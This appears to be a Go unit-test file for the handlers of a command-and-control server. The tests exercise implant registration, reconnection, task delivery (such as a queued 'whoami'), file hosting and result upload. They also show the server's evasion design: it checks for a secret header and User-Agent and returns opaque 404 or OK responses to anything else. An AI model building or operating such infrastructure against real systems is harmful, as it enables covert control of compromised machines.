package handlers

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"testing"

	"github.com/go-chi/chi/v5"

	"github.com/duskrelay/beaconsrv/envelope"
	"github.com/duskrelay/beaconsrv/implant"
	"github.com/duskrelay/beaconsrv/notify"
	"github.com/duskrelay/beaconsrv/registry"
	"github.com/duskrelay/beaconsrv/reqauth"
)

const (
	testKey = "topsecret"
	testUA  = "Mozilla/5.0 (compatible)"
)

// fakeStore is a no-op store.Store for tests that don't care about
// persistence outcomes.
type fakeStore struct {
	hashes map[string][2]string // hash -> [filename, path]
}

func newFakeStore() *fakeStore { return &fakeStore{hashes: map[string][2]string{}} }

func (f *fakeStore) InitializeImplant(context.Context, implant.Snapshot, string) error { return nil }
func (f *fakeStore) UpdateImplant(context.Context, implant.Snapshot) error             { return nil }
func (f *fakeStore) LogCheckin(context.Context, string, bool, string) error            { return nil }
func (f *fakeStore) StoreFileHashMapping(_ context.Context, hash, filename, path string) error {
	f.hashes[hash] = [2]string{filename, path}
	return nil
}
func (f *fakeStore) GetFileInfoByHash(_ context.Context, hash string) (string, string, bool, error) {
	v, ok := f.hashes[hash]
	if !ok {
		return "", "", false, nil
	}
	return v[0], v[1], true, nil
}
func (f *fakeStore) LogFileTransfer(context.Context, string, string, int64, string) error { return nil }
func (f *fakeStore) Close() error                                                         { return nil }

// fakeSink is a no-op notify.Sink recording events for assertions.
type fakeSink struct {
	events      []notify.Event
	badRequests []reqauth.Reason
}

func (f *fakeSink) Notify(e notify.Event) { f.events = append(f.events, e) }
func (f *fakeSink) ReportBadRequest(_ context.Context, reason reqauth.Reason, _, _ string) {
	f.badRequests = append(f.badRequests, reason)
}
func (f *fakeSink) Close() error { return nil }

func newTestDeps() (*Deps, *fakeSink) {
	sink := &fakeSink{}
	return &Deps{
		Registry:   registry.New(),
		Store:      newFakeStore(),
		Notifier:   sink,
		Shib:       reqauth.Shibboleths{AllowKey: testKey, UserAgent: testUA},
		XORKey:     []byte("0123456789abcdef0123456789abcdef"),
		UploadsDir: "",
		ServerID:   "test-server",
	}, sink
}

func jsonBody(b []byte) *bytes.Reader { return bytes.NewReader(b) }

func TestRegisterGetThenPost(t *testing.T) {
	deps, sink := newTestDeps()

	getReq := httptest.NewRequest(http.MethodGet, "/register", nil)
	getReq.Header.Set("X-Correlation-ID", testKey)
	getReq.Header.Set("User-Agent", testUA)
	getRec := httptest.NewRecorder()
	RegisterGet(deps)(getRec, getReq)

	if getRec.Code != http.StatusOK {
		t.Fatalf("register GET: status %d", getRec.Code)
	}
	var getResp map[string]string
	if err := json.Unmarshal(getRec.Body.Bytes(), &getResp); err != nil {
		t.Fatalf("register GET: decode: %v", err)
	}
	id := getResp["id"]
	if id == "" {
		t.Fatal("register GET: empty id")
	}

	rec, found := deps.Registry.GetByID(id)
	if !found {
		t.Fatal("registered implant not found")
	}

	payload := registrationPayload{Username: "alice", Hostname: "box", PID: 42}
	plaintext, _ := json.Marshal(payload)
	enc, err := envelope.EncryptString(string(plaintext), rec.EncryptionKey())
	if err != nil {
		t.Fatalf("encrypt: %v", err)
	}
	body, _ := json.Marshal(envelopeRequest{Data: enc})

	postReq := httptest.NewRequest(http.MethodPost, "/register", jsonBody(body))
	postReq.Header.Set("X-Correlation-ID", testKey)
	postReq.Header.Set("User-Agent", testUA)
	postReq.Header.Set("X-Request-ID", id)
	postRec := httptest.NewRecorder()
	RegisterPost(deps)(postRec, postReq)

	if postRec.Code != http.StatusOK {
		t.Fatalf("register POST: status %d body %s", postRec.Code, postRec.Body.String())
	}
	if rec.State() != implant.StateActive {
		t.Fatalf("expected ACTIVE, got %v", rec.State())
	}

	foundActivation := false
	for _, e := range sink.events {
		if e.Kind == notify.KindActivation {
			foundActivation = true
		}
	}
	if !foundActivation {
		t.Fatal("expected an activation event to be notified")
	}
}

func TestRegisterPost_WrongUserAgent_Opaque404(t *testing.T) {
	deps, _ := newTestDeps()

	req := httptest.NewRequest(http.MethodPost, "/register", jsonBody([]byte(`{}`)))
	req.Header.Set("X-Correlation-ID", testKey)
	req.Header.Set("User-Agent", "curl/8.0")
	rec := httptest.NewRecorder()
	RegisterPost(deps)(rec, req)

	if rec.Code != http.StatusNotFound {
		t.Fatalf("expected opaque 404, got %d", rec.Code)
	}
	var resp map[string]string
	json.Unmarshal(rec.Body.Bytes(), &resp)
	if resp["status"] != "Not found" {
		t.Fatalf("expected opaque body, got %v", resp)
	}
}

func TestReconnect_InactiveImplantGets410(t *testing.T) {
	deps, _ := newTestDeps()
	rec := implant.New("implant-1", []byte("01234567890123456789012345678901"))
	deps.Registry.Add(rec)

	req := httptest.NewRequest(http.MethodOptions, "/reconnect", nil)
	req.Header.Set("X-Correlation-ID", testKey)
	req.Header.Set("User-Agent", testUA)
	req.Header.Set("X-Request-ID", "implant-1")
	w := httptest.NewRecorder()
	Reconnect(deps)(w, req)

	if w.Code != http.StatusGone {
		t.Fatalf("expected 410 for inactive implant, got %d", w.Code)
	}
}

func TestReconnect_ActiveImplantGetsKey(t *testing.T) {
	deps, _ := newTestDeps()
	key := []byte("01234567890123456789012345678901")
	rec := implant.New("implant-2", key)
	rec.Activate(implant.ActivationFields{Username: "bob"}, "1.2.3.4")
	deps.Registry.Add(rec)

	req := httptest.NewRequest(http.MethodOptions, "/reconnect", nil)
	req.Header.Set("X-Correlation-ID", testKey)
	req.Header.Set("User-Agent", testUA)
	req.Header.Set("X-Request-ID", "implant-2")
	w := httptest.NewRecorder()
	Reconnect(deps)(w, req)

	if w.Code != http.StatusOK {
		t.Fatalf("expected 200 for active implant, got %d body %s", w.Code, w.Body.String())
	}
}

func TestTask_DeliversQueuedTaskOnce(t *testing.T) {
	deps, _ := newTestDeps()
	key := []byte("01234567890123456789012345678901")
	rec := implant.New("implant-3", key)
	rec.Activate(implant.ActivationFields{}, "1.2.3.4")
	rec.EnqueueTask(`{"command":"whoami"}`)
	deps.Registry.Add(rec)

	req := httptest.NewRequest(http.MethodGet, "/task", nil)
	req.Header.Set("X-Correlation-ID", testKey)
	req.Header.Set("User-Agent", testUA)
	req.Header.Set("X-Request-ID", "implant-3")
	w := httptest.NewRecorder()
	Task(deps)(w, req)

	if w.Code != http.StatusOK {
		t.Fatalf("status %d", w.Code)
	}
	var resp map[string]string
	json.Unmarshal(w.Body.Bytes(), &resp)
	if resp["t"] == "" {
		t.Fatal("expected an encrypted task in response")
	}

	// Second poll: queue now empty, plain OK.
	w2 := httptest.NewRecorder()
	Task(deps)(w2, req)
	var resp2 map[string]string
	json.Unmarshal(w2.Body.Bytes(), &resp2)
	if resp2["status"] != "OK" {
		t.Fatalf("expected drained-queue OK response, got %v", resp2)
	}
}

func TestHostedFile_UnresolvedIDReturnsOpaqueOK(t *testing.T) {
	deps, sink := newTestDeps()
	key := []byte("01234567890123456789012345678901")
	rec := implant.New("implant-4", key)
	rec.Activate(implant.ActivationFields{}, "1.2.3.4")
	deps.Registry.Add(rec)
	deps.UploadsDir = t.TempDir()

	req := httptest.NewRequest(http.MethodGet, "/task/deadbeef", nil)
	req.Header.Set("X-Correlation-ID", testKey)
	req.Header.Set("User-Agent", testUA)
	req.Header.Set("X-Request-ID", "implant-4")
	req.Header.Set("Content-MD5", "task-guid-1")

	rctx := chi.NewRouteContext()
	rctx.URLParams.Add("file_id", "deadbeef")
	req = req.WithContext(context.WithValue(req.Context(), chi.RouteCtxKey, rctx))

	w := httptest.NewRecorder()
	HostedFile(deps)(w, req)

	if w.Code != http.StatusOK {
		t.Fatalf("expected 200 OK for unresolved file id, got %d", w.Code)
	}
	var resp map[string]string
	json.Unmarshal(w.Body.Bytes(), &resp)
	if resp["status"] != "OK" {
		t.Fatalf("expected status OK, got %v", resp)
	}
	if len(sink.badRequests) == 0 || sink.badRequests[len(sink.badRequests)-1] != reqauth.NotHostingFile {
		t.Fatalf("expected NotHostingFile reported, got %v", sink.badRequests)
	}
}

func TestResult_StoresDecryptedBlob(t *testing.T) {
	deps, _ := newTestDeps()
	key := []byte("01234567890123456789012345678901")
	rec := implant.New("implant-5", key)
	rec.Activate(implant.ActivationFields{}, "1.2.3.4")
	deps.Registry.Add(rec)

	plaintext, _ := json.Marshal(resultPayload{GUID: "task-1", Result: "bm90LWd6aXA="})
	enc, err := envelope.EncryptString(string(plaintext), key)
	if err != nil {
		t.Fatalf("encrypt: %v", err)
	}
	body, _ := json.Marshal(envelopeRequest{Data: enc})

	req := httptest.NewRequest(http.MethodPost, "/result", jsonBody(body))
	req.Header.Set("X-Correlation-ID", testKey)
	req.Header.Set("User-Agent", testUA)
	req.Header.Set("X-Request-ID", "implant-5")
	w := httptest.NewRecorder()
	Result(deps)(w, req)

	if w.Code != http.StatusOK {
		t.Fatalf("status %d body %s", w.Code, w.Body.String())
	}
}
